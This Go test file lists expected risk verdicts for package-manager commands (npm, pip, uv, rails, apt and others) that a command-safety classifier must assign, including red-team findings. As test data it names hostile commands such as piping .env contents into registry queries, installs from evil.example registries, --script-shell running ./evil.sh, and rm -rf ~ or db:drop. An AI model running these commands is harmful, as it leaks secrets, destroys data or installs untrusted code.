package classify

// packagesCases are the expected verdicts for the programs of package
// managers (tools_packages.go): the rows of the tables named after the work
// that added them, gathered here by the program each row runs. Each part
// says where its rows came from.
var packagesCases = []classifyCase{
	// ==== from toolsCases: issue 13's command knowledge in the tables (tools_cases_test.go; further spellings in tools_heldout_test.go) ====
	// class 6: a build told to run another program
	high("npm install --registry http://x lodash", "install-source"),
	high("npm i --registry=http://x", "install-source"),
	high("npm install --@corp:registry=http://x @corp/a", "install-source"),
	high("pip install --index-url http://x foo", "install-source"),
	high("pip3 install -i http://x foo", "install-source"),
	high("pip install --extra-index-url http://x foo", "install-source"),
	high("pip install -f http://x foo", "install-source"),
	high("pip install https://x/x.whl", "install-source"),
	high("pip install git+https://github.com/x/y", "install-source"),
	high("pip install 'pkg @ https://x/pkg.zip'", "install-source"),
	high("npm install https://x/x.tgz", "install-source"),
	high("npm install github:user/repo", "install-source"),
	high("npm install user/repo", "install-source"),
	high("yarn add git+ssh://git@github.com/u/r.git", "install-source"),
	high("pnpm add gitlab:u/r", "install-source"),
	high("gem install --source http://x foo", "install-source"),
	high("uv pip install --index-url http://x foo", "install-source"),
	high("poetry source add x http://x", "poetry-source"),
	medium("npm install @types/node lodash@4", "package-install"),
	medium("pip install -r requirements.txt", "package-install"),
	medium("pip install requests==2.31", "package-install"),
	high("PIP_INDEX_URL=http://x pip install foo", "env-registry"),
	high("npm config set registry http://x", "npm-config"),
	high("pip config set global.index-url http://x", "pip-config"),
	high("yarn config set npmRegistryServer http://x", "yarn-config"),

	// class 7: a network query that carries data out
	high(`npm view "$(cat .env)"`, "sends-data"),
	high("pip index versions $(cat x)", "sends-data"),
	high("npm install $(cat .env)", "sends-data"),
	minimal("npm view lodash", "package-query"),

	// class 9: script names of other runners, judged like npm run
	high("npm run deploy", "run-script-deploy"),
	high("npm run-script deploy:prod", "run-script-deploy"),
	high("bun run release", "run-script-deploy"),
	high("yarn workspace app run deploy", "run-script-deploy"),
	high("yarn workspace app deploy", "run-script-deploy"),
	medium("yarn workspace app build", "run-script"),
	high("yarn workspaces foreach run release", "run-script-deploy"),
	medium("yarn workspaces foreach -A run build", "run-script"),
	high("pnpm -r run publish", "run-script-deploy"),
	high("pnpm --filter app run deploy", "run-script-deploy"),
	medium("pnpm --filter app run build", "run-script"),
	high("lerna run deploy", "run-script-deploy"),
	medium("lerna run test --scope x", "run-script"),
	high("nx run app:deploy", "run-script-deploy"),
	high("nx deploy app", "run-script-deploy"),
	high("nx run-many -t build,deploy", "run-script-deploy"),
	high("nx release", "publish"),
	medium("nx build app", "run-script"),
	medium("nx run app:build:production", "run-script"),
	high("turbo run release", "run-script-deploy"),
	high("turbo publish", "run-script-deploy"),
	medium("turbo run build test", "run-script"),
	high("just deploy prod", "run-script-deploy"),
	medium("just build", "build"),
	high("task deploy", "run-script-deploy"),
	medium("task build test", "build"),

	// class 10: destructive verbs of less common tools
	dangerous("rpm -e --nodeps foo", "package-force-remove"),
	dangerous("dpkg --force-all -P foo", "package-force-remove"),
	dangerous("dpkg -r --force-remove-essential bash", "package-force-remove"),
	dangerous("pacman -Rdd foo", "package-force-remove"),
	dangerous("pacman -R -d -d foo", "package-force-remove"),
	high("pacman -R foo", "pacman"),
	high("rpm -e foo", "rpm"),

	// ==== from everydayCases: issue 14: everyday development at the least level a person expects, and its neighbours (everyday_cases_test.go) ====
	// ---- class 1: global options before the script or subcommand ----
	medium("pnpm --filter api build", "run-script"),
	medium("pnpm --filter=api build", "run-script"),
	medium("pnpm -F api test", "build"),
	medium("pnpm -r test", "build"),
	medium("pnpm --recursive run lint", "run-script"),
	medium("pnpm -r --parallel run build", "run-script"),
	medium("pnpm -C packages/web run typecheck", "run-script"),
	medium("pnpm --dir packages/web lint", "run-script"),
	high("pnpm -C x dev", "run-server"),
	high("pnpm --filter web dev", "run-server"),
	medium("yarn --cwd web lint", "run-script"),
	medium("yarn --cwd packages/api test", "build"),
	medium("yarn --silent build", "run-script"),
	medium("npm -w pkg run build", "run-script"),
	medium("npm --workspace=packages/core run test", "run-script"),
	medium("npm -ws run lint", "run-script"),
	medium("npm --prefix web test", "build"),
	medium("npm --prefix web run build", "run-script"),
	medium("npm --silent run lint", "run-script"),
	medium("npm run build --if-present", "run-script"),
	medium("bun --cwd app test", "build"),
	medium("pnpm build", "run-script"),
	// an option the tables do not know could swallow the name after it
	high("pnpm --frobnicate test deploy", "pm-unknown-option"),
	high("npm --zzz run build", "pm-unknown-option"),
	// the directory an option names must be in the workspace
	high("pnpm -C ../other build", "build-elsewhere"),
	high("yarn --cwd /opt/app build", "build-elsewhere"),
	high("npm --node-options=--require=./x.js test", "build-exec"),
	high("pnpm deploy --filter api dist", "pnpm"),

	// ---- class 2: runners judged as what they run ----
	medium("uv run pytest", "run-in-env-sync"),
	medium("uv run --frozen pytest -q", "build"),
	medium("uv run -m pytest tests/", "build"),
	// --with downloads a package the project does not have for the run,
	// as uvx does; --with-requirements installs from a file, as pip -r
	high("uv run --with pytest-cov pytest", "run-package"),
	high("uv run --with=jupyter jupyter lab", "run-package"),
	medium("uv run --with-editable ./plugin pytest", "build"),
	medium("uv run ruff check .", "format-write"),
	medium("uv run mypy src", "lint"),
	dangerous("uv run rm -rf ~", "rm-recursive-force"),
	high("uv run ./evil.sh", ""),
	high("uv run python script.py", "run-program-file"),
	high("uv run --index-url https://evil.example/simple pytest", "runner-index"),
	high("uv run --directory ../other pytest", "build-elsewhere"),
	high("uv run --mystery pytest", "runner-unknown-option"),
	medium("uv run", "run-in-env-sync"),
	minimal("poetry run", "runner-alone"),
	high("uv run app.py", "run-program-file"),
	medium("poetry run mypy", "lint"),
	medium("poetry run pytest -x", "build"),
	minimal("poetry run black --check .", "check-only"),
	dangerous("poetry run rm -rf /", ""),
	medium("pipenv run pytest", "build"),
	medium("pipenv run test", "run-script"),
	high("pipenv run deploy", "run-script-deploy"),
	medium("hatch run test", "run-script"),
	medium("hatch run lint:check", "run-script"),
	medium("hatch run test:cov", "run-script"), // cov: coverage, a test run (issue 29)
	// a script's or task's name read as words, whatever runs it (issue 29)
	medium("yarn build:packages", "run-script"),
	medium("pnpm test-unit", "run-script"),
	medium("npm run test-e2e-local", "run-script"),
	medium("pnpm run docs-build", "run-script"),
	medium("yarn lint:js", "run-script"),
	medium("bun run typecheck:all", "run-script"),
	medium("pnpm turbo run app#build", "run-script"),
	high("npm run db:reset", "run-script-unknown"),
	high("yarn start:prod", "run-server"),
	high("npm run build:watch", "run-server"),
	high("npm run release:beta", "run-script-deploy"),
	high("yarn docs:publish", "run-script-deploy"),
	medium("bundle exec rake ascii_spec", "rails-test"),
	medium("rails factory_bot:lint", "rails-test"),
	medium("rake documentation_syntax_check", "rails-test"),
	medium("rails db:prepare", "rails-test"),
	high("rake frobnicate", "rails"),
	high("rails db:migrate VERSION=0", "rails"),
	high("rails db:migrate RAILS_ENV=production", "rails"),
	// another environment, however it is given
	high("RAILS_ENV=production bin/rails db:seed", "rails"),
	high("env RAILS_ENV=staging rails db:migrate", "rails"),
	high("export RAILS_ENV=production; bundle exec rails db:migrate", "rails"),
	high(`RAILS_ENV="$E" rails db:migrate`, "rails"),
	high("RACK_ENV=production rake db:migrate", "rails"),
	high("rails db:migrate -e production", "rails"),
	high("rails db:migrate --environment=production", "rails"),
	medium("RAILS_ENV=test bin/rails db:migrate", "rails-test"),
	medium("rails db:migrate -e test", "rails-test"),
	// rails and rake run every task named: each is judged as if alone
	dangerous("./bin/rails db:create db:schema:load db:seed", "db-drop"),
	dangerous("bin/rails db:test:prepare db:drop", "db-drop"),
	// ... but the words after one of rails' own commands are its arguments
	medium("rails test test/models/user_test.rb test/models/post_test.rb", "rails-test"),
	medium("rails generate model User name:string", "rails-test"),
	dangerous("rake db:migrate db:reset", "db-drop"),
	dangerous("rake db:create db:structure:load db:migrate test:prepare", "db-drop"),
	high("rails db:migrate deploy:prod", "run-script-deploy"),
	high(`rails db:migrate "$TASK"`, "rails"),
	high("rails db:migrate db:seed RAILS_ENV=production", "rails"),
	medium("rails db:create db:migrate db:seed", "rails-test"),
	medium("bundle exec rake db:create db:migrate", "rails-test"),
	// ruby running a binstub, or rake from PATH, runs that program
	// pnpm passes npm's registry queries on
	minimal("pnpm view lodash", "package-query"),
	minimal("pnpm info react version", "package-query"),
	dangerous("ruby bin/rails db:drop", "db-drop"),
	dangerous("ruby ./bin/rake db:reset", "db-drop"),
	dangerous("ruby -S rake db:drop", "db-drop"),
	dangerous("ruby -w -S rails db:schema:load", "db-drop"),
	// a destroying task's other names: arguments, one database of several
	dangerous("rake 'db:drop[x]'", "db-drop"),
	dangerous("rails db:drop:primary", "db-drop"),
	dangerous("bin/rails db:reset:primary", "db-drop"),
	dangerous("rails db:schema:load:animals", "db-drop"),
	dangerous("rake db:purge:primary", "db-drop"),
	dangerous("rails db:drop:_unsafe", "db-drop"),
	dangerous("rails db:drop:all", "db-drop"),
	high("npm run docs:gh-pages", "run-script-deploy"),
	high("npm run test:coveralls", "run-script-deploy"),
	high("yarn build:sentry", "run-script-deploy"),
	high("stack exec --package evilpkg -- hlint src", "run-package"),
	dangerous("rails db:seed:replant", "db-drop"),
	dangerous("bin/rails db:truncate_all", "db-drop"),
	dangerous("rake db:purge", "db-drop"),
	dangerous("rails db:migrate:reset", "db-drop"),
	high("rake deploy:production", "run-script-deploy"),
	high("hatch run test:migrate-prod", "run-script-unknown"),
	medium("hatch run pytest", "build"),
	high("hatch run serve", "run-server"),
	medium("hatch build", "build"),
	medium("hatch fmt --check", "lint"),
	minimal("hatch version", "package-info"),
	low("hatch version minor", "write-file"),
	high("hatch publish", "publish"),
	high("hatch config set dirs.env.virtual .venv", "hatch-config"),
	high("hatch frobnicate", "hatch"),
	medium("pdm run pytest", "build"),
	medium("pdm run lint", "run-script"),
	medium("pdm install", "package-install"),
	minimal("pdm list", "package-info"),
	high("pdm config pypi.url https://x.example", "pdm-config"),
	high("pdm frobnicate", "pdm"),
	medium("conda run -n dev pytest", "build"),
	medium("bundle exec rake test", "rails-test"),
	medium("bundle exec rspec spec/models", "build"),
	medium("bundle exec rubocop -a", "lint"),
	high("bundle exec rails server", "run-server"),
	medium("pnpm exec tsc --noEmit", "build"),
	medium("pnpm exec eslint .", "lint"),
	dangerous("pnpm exec rm -rf ~", "rm-recursive-force"),
	medium("yarn vitest", "run-local-bin"),
	medium("yarn vitest run", "build"),
	medium("yarn eslint src", "lint"),
	medium("yarn exec tsc", "build"),
	medium("bun vitest", "build"),
	high("yarn deploy", "run-script-deploy"),

	// ---- class 3: everyday build and test commands ----
	medium("pip-compile requirements.in", "package-install"),
	medium("pip-compile -o requirements.txt pyproject.toml", "package-install"),
	high("pip-compile --index-url https://evil.example/simple", "package-index"),
	medium("pip-sync requirements.txt", "package-install"),
	minimal("twine check dist/*", "twine-check"),
	high("twine upload dist/*", "twine"),

	// ---- class 4: read-only inspectors ----
	minimal("npm pkg get version", "package-info"),
	low("npm pkg set scripts.lint=eslint", "npm-pkg-write"),

	// ---- held-out check (/work/notes/heldout-everyday.tsv): classes that failed ----
	medium("RAILS_ENV=test bundle exec rails test", "rails-test"),
	medium("composer run-script test", "run-script"),
	high("composer run-script deploy", "run-script-deploy"),

	// ==== from redteamToolCases: under-ratings found by red-teaming the tool tables; redteam_tools_test.go lists the design sentences the comments quote ====
	// ===== A. minimal today, but runs arbitrary code =====
	// bundler evaluates the Gemfile (Ruby) for check/list/show/info/outdated;
	// CocoaPods evaluates the Podfile (Ruby) for outdated. Running the
	// project's code is development work (medium), not reading.
	medium(`bundle list`, ""),
	medium(`bundle check`, ""),
	medium(`pod outdated`, ""),

	// ===== B. minimal today, but writes outside the workspace =====
	// The "pm"/"audit"/"version" rows swallow writing subcommands:
	// bun pm pack runs pack scripts and writes a tarball, bun pm version
	// bumps package.json (and commits), bun pm trust runs the packages'
	// lifecycle scripts, pnpm audit --fix and cargo audit fix rewrite the
	// manifest, poetry version RULE rewrites pyproject.toml.
	medium(`bun pm pack`, ""),
	medium(`bun pm version patch`, ""),
	medium(`bun pm trust --all`, ""),
	medium(`pnpm audit --fix`, ""),
	low(`poetry version patch`, ""),

	// ===== C. minimal (or low) today, but reads a secret =====
	// holds: npm refuses to print protected keys (verified, npm 11)
	minimal(`npm config get //registry.npmjs.org/:_authToken`, "package-info"),

	// ===== F. medium today, but high =====
	// compilers and bundlers: output outside, wrappers, plugins, servers
	high(`nx serve app`, ""),

	// build tools that run the program, publish, or run any command
	high(`lerna exec -- id`, ""),
	high(`lerna publish`, ""),

	// npm: --prefix/--location move installs out of the workspace;
	// --script-shell runs scripts with any program (go -exec is high);
	// init <initializer> is npm exec create-<initializer>
	high(`npm install --prefix /home/u/.local x`, ""),
	high(`npm install --prefix=/usr/local x`, ""),
	high(`npm install --location global x`, ""),
	high(`npm run build --script-shell=./evil.sh`, ""),
	high(`npm test --script-shell='sh -c id'`, ""),
	high(`npm pack --pack-destination=/home/u/.local/bin`, "write-persistence"),
	high(`npm init vite`, ""),
	high(`npm --prefix ../other test`, ""),
	high(`bun link`, ""),
	dangerous(`bun build --compile x.ts --outfile /home/u/.local/bin/x`, "overwrite-startup"),
	// holds
	high(`NPM_CONFIG_SCRIPT_SHELL=./x.sh npm test`, "env-changes-program"),
	minimal(`npm run`, "list-scripts"),

	// pip/uv/conda installing outside the workspace
	high(`pip install --target /home/u/.local/lib x`, ""),
	high(`pip install --user x`, ""),
	high(`pip install --prefix /usr/local x`, ""),
	high(`pip install --break-system-packages x`, ""),
	high(`pip download x -d /home/u/.local/bin`, ""),
	high(`pip wheel -w /home/u/x x`, ""),
	high(`uv pip install --system x`, ""),
	high(`uv pip install --target /home/u/x x`, ""),
	high(`uv venv /home/u/.local/x`, ""),
	dangerous(`uv build -o /home/u/.local/bin`, ""),
	high(`conda config --set x y`, ""),
	high(`conda install -p /opt/x x`, ""),

	// gem/bundle/composer: global installs and global config
	high(`gem install --user-install x`, ""),
	high(`gem install -n /usr/local/bin x`, ""),
	high(`gem install --install-dir /home/u/.local x`, ""),
	high(`gem update --system`, ""),
	high(`bundle install --path /home/u/.local`, ""),
	high(`bundle binstubs x --path /home/u/.local/bin`, ""),
	high(`bundle config set --global path /home/u/.local`, ""),
	high(`composer config -g github-oauth.github.com x`, ""),
	high(`composer config --global repositories.x vcs http://evil`, ""),
	high(`composer -d /home/u/x install`, ""),
	high(`composer self-update`, ""),
	high(`composer archive --dir /home/u/x`, ""),

	// flutter/dart/swift/mix/haskell/nim: run programs, install globally
	high(`nimble install x`, ""),

	// ===== G. high today, but dangerous =====
	dangerous(`pnpm exec prisma migrate reset`, ""),
	// unpublish kin
	dangerous(`gem yank x -v 1.0`, ""),
	dangerous(`pod trunk delete x 1.0`, ""),

	// ==== from coverageCases: rows that give each table rule a case (coverage_test.go, TestEveryTableRuleHasARow) ====
	// ---- Table rows: development tools (tools_build.go, tools_packages.go) ----
	minimal("npm ls --depth=0", "package-info"),
	minimal("npm run", "list-scripts"),
	high("npm whoami", "npm"),
	high("npm config set registry https://registry.example.com", "npm-config"),
	high("npm publish --access public", "publish"),
	high("npm login", "registry-account"),
	high("npm install $PKG", "sends-data"),
	high("npm $SUBCOMMAND", "dynamic-subcommand"),
	high("pnpm deploy --filter api dist", "pnpm"),
	high("pnpm config set store-dir ~/.pnpm-store", "pnpm-config"),
	high("yarn config set npmRegistryServer https://registry.example.com", "yarn-config"),
	high("pip lock -r requirements.txt", "pip"),
	high("pip config set global.index-url https://pypi.example.com/simple", "pip-config"),
	high("poetry config virtualenvs.in-project true", "poetry-config"),
	high("gem sources --add https://gems.example.com", "gem"),
	high("pod spec lint", "pod"),

	// ---- Table rows: services, firewall, accounts, packages ----
	high("apk add curl", "apk"),
	minimal("apk info", "apk-query"),
	high("flatpak install flathub org.gimp.GIMP", "flatpak"),
	minimal("flatpak list", "flatpak-query"),
	high("zypper install nginx", "zypper"),
	minimal("zypper search nginx", "zypper-query"),
}

// packagesInfraCases are the rows of infraCases for these programs: the
// infrastructure programs' dangerous verbs, and the safe or merely high
// neighbours that must not be caught with them. infra_cases_test.go joins
// the families' parts into infraCases, which the invariant and fuzz tests read.
var packagesInfraCases = []classifyCase{
	// System package managers.
	{cmd: "apt list --installed", level: Minimal, rule: "apt-query"},
	{cmd: "apt-cache policy nginx", level: Minimal, rule: "apt-cache"},
	{cmd: "apt-get install -y nginx", level: High, rule: "apt"},
	{cmd: "apt-get -y remove nginx", level: High, rule: "apt-remove"},
	{cmd: "apt purge nginx", level: High, rule: "apt-remove"},
	{cmd: "dpkg -l", level: Minimal, rule: "dpkg-query"},
	{cmd: "dpkg -L nginx", level: Minimal, rule: "dpkg-query"},
	{cmd: "dpkg -i pkg.deb", level: High, rule: "dpkg"},
	{cmd: "rpm -qa", level: Minimal, rule: "rpm-query"},
	{cmd: "rpm -qi bash", level: Minimal, rule: "rpm-query"},
	{cmd: "rpm -ivh pkg.rpm", level: High, rule: "rpm"},
	{cmd: "dnf list installed", level: Minimal, rule: "dnf-query"},
	{cmd: "dnf install -y nginx", level: High, rule: "dnf"},
	{cmd: "yum history undo 12", level: High, rule: "dnf-history-undo"},
	{cmd: "pacman -Qi bash", level: Minimal, rule: "pacman-query"},
	{cmd: "pacman -Ss nginx", level: Minimal, rule: "pacman-query"},
	{cmd: "pacman -Syu", level: High, rule: "pacman"},
	{cmd: "pacman -Rns foo", level: High, rule: "pacman"},
	{cmd: "brew list", level: Minimal, rule: "brew-query"},
	{cmd: "brew info jq", level: Minimal, rule: "brew-query"},
	{cmd: "brew install jq", level: High, rule: "brew"},
	{cmd: "brew uninstall jq", level: High, rule: "brew"},
	{cmd: "snap list", level: Minimal, rule: "snap-query"},
	{cmd: "snap install code --classic", level: High, rule: "snap"},

	// Issue 14 held-out check: the reads and installs of IaC and chart
	// tools, and conan (a package manager whose recipes are code).
	{cmd: "conan install . --output-folder=build --build=missing", level: Medium, rule: "package-install"},
	{cmd: "conan profile detect --force", level: Medium, rule: "conan-profile"},
	{cmd: "conan remote add corp https://conan.example.com", level: High, rule: "conan-remote"},
	{cmd: "conan remove 'zlib/*' -c", level: Medium, rule: "conan-remove"},
	{cmd: "conan upload 'mylib/*' -r corp", level: High, rule: "publish"},
	{cmd: "conan frobnicate", level: High, rule: "conan"},
}
